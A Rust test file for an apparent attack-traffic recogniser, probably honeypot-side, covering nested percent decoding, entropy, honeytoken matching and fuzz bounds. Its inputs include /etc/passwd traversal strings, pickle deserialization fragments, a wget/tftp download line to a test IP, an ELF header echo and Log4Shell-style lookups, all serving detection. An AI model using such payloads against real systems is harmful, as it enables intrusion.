//! Layers in layers, bounds, and honeytokens.

use super::*;
use alloc::vec;
use proptest::prelude::*;

fn look(said: &[u8]) -> Sight {
    Recogniser::new(&[]).look(said, &BTreeMap::new(), &Tally::default())
}

fn percent(bytes: &[u8]) -> Vec<u8> {
    bytes.iter().flat_map(|byte| format!("%{byte:02x}").into_bytes()).collect()
}

#[test]
fn what_is_wrapped_several_times_is_found_and_said_so() {
    let twice = percent(&percent(b"GET ../../etc/passwd"));
    let sight = look(&twice);
    assert_eq!(sight.marks.shapes[&Shape::SecretFile], "/etc/passwd (in percent in percent)");
    assert_eq!(sight.facts["opened"], "percent");
    let four = percent(&percent(&percent(&percent(b"/etc/passwd"))));
    assert!(look(&four).marks.shapes.contains_key(&Shape::SecretFile));
    let five = percent(&four);
    assert!(!look(&five).marks.shapes.contains_key(&Shape::SecretFile), "deeper than anything that would be undone");
}

#[test]
fn entropies_are_those_of_the_bytes_however_many_there_are() {
    for length in [0, 1, ENTROPY_SHORT_BYTES, ENTROPY_SHORT_BYTES + 1, ENTROPY_WINDOW_BYTES, ENTROPY_WINDOW_BYTES + 1, 3_000] {
        let said: Vec<u8> = (0..length).map(|place| u8::try_from(place * place * place % 251).unwrap()).collect();
        let Entropies { whole, window, short, .. } = look(&said).marks.entropy;
        let each =
            [crate::entropy_millibits, entropy_window_max_millibits, entropy_short_max_millibits].map(|entropy| entropy(&said));
        assert_eq!([whole, window, short], each, "{length}");
    }
}

#[test]
fn a_word_over_two_lines_is_found_though_one_of_them_is_wrapped() {
    for said in [&b"x\nc%5f_builtin__\neval\n\ny"[..], b"x\nc__builtin__\n%65val\n\ny", b"x\n\\x63os\nsystem\ny"] {
        let sight = look(said);
        assert!(sight.marks.shapes.contains_key(&Shape::Deserialization), "{}: {sight:?}", String::from_utf8_lossy(said));
    }
}

#[test]
fn facts_name_file_and_place_and_tool() {
    let sight = look(b"curl/8.5.0 ; wget http://198.51.100.9/a; tftp -g -r b 198.51.100.9");
    assert_eq!(sight.facts["download"], "http://198.51.100.9/a tftp://198.51.100.9/b");
    assert_eq!(sight.facts["tool"], "curl");
    let sight = look(b"echo -ne '\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01\\x00' > x");
    assert_eq!(sight.facts["file"], "ELF 64-bit little-endian");
}

#[test]
fn a_honeytoken_is_found_in_the_bytes_in_the_fields_and_in_layers_and_a_short_one_is_none() {
    let tokens = ["vpn-7f3a9c2e".into(), "kX9wQ2mLt7Rz".into(), "short".into(), "x".repeat(TOKEN_BYTES_MAX + 1)];
    let recogniser = Recogniser::new(&tokens);
    let look = |said: &[u8], fields: &[(&str, &str)]| {
        let fields = fields.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect();
        recogniser.look(said, &fields, &Tally::default())
    };
    assert!(look(b"GET /vpn-7f3a9c2e HTTP/1.1", &[]).bait);
    assert!(look(b"", &[("password", "kX9wQ2mLt7Rz")]).bait);
    assert_eq!(look(b"Authorization: Basic cm9vdDprWDl3UTJtTHQ3Uno=", &[]).facts["bait"], "kX9wQ2mLt7Rz");
    assert!(look(&percent(b"kX9wQ2mLt7Rz"), &[]).bait);
    for other in [&b"KX9WQ2MLT7RZ"[..], b"short", b"vpn-7f3a9c2"] {
        assert!(!look(other, &[]).bait, "{other:?}");
    }
}

#[test]
fn the_answers_disorder_is_told_beside() {
    let mut answered = Tally::default();
    answered.add(b"abcd");
    let sight = Recogniser::new(&[]).look(b"aabb", &BTreeMap::new(), &answered);
    let expected = Entropies { whole: 1_000, window: 1_000, short: 1_000, sent: Some(2_000), sent_window: Some(2_000) };
    assert_eq!(sight.marks.entropy, expected);
}

#[test]
fn no_bytes_however_chosen_make_it_open_without_end() {
    let unit = b"%25%32%35\\x5c\\u0025YWFhYWFhYWFhYWFhYWFhYWFhYWFh 2525252525252525252525252525 ${${lower:j}/*a*/";
    let said = unit.repeat(1 << 14);
    let sight = look(&said);
    assert!(sight.facts["opened"].ends_with('+'), "{:?}", sight.facts);
}

proptest! {
    #[test]
    fn nothing_breaks_it_and_what_it_tells_is_bounded_and_printable(
        parts in proptest::collection::vec(prop_oneof![
            proptest::collection::vec(any::<u8>(), 0..60),
            proptest::sample::select(vec![
                &b"${"[..], b"${lower:", b"}", b"%25", b"%u00", b"\\x", b"\\17", b"wget ", b"http://", b"/*", b"*/", b"'", b"\\",
                b"\x7fELF\x01\x01\x01", b"MZ", b"#!/", b"\x1b[2J", b"/bin/busybox ", b"\x90\x90\x90\x90\x90\x90\x90\x90", b"Li4vLi4vZXRjL3Bhc3N3ZA",
            ]).prop_map(<[u8]>::to_vec),
        ], 0..30),
    ) {
        let said = parts.concat();
        let sight = look(&said);
        for words in sight.marks.shapes.values() {
            prop_assert!(words.len() <= MARK_BYTES_MAX && words.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()));
        }
        for fact in sight.facts.values() {
            prop_assert!(fact.len() <= FACT_BYTES_MAX && fact.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()));
        }
    }
}
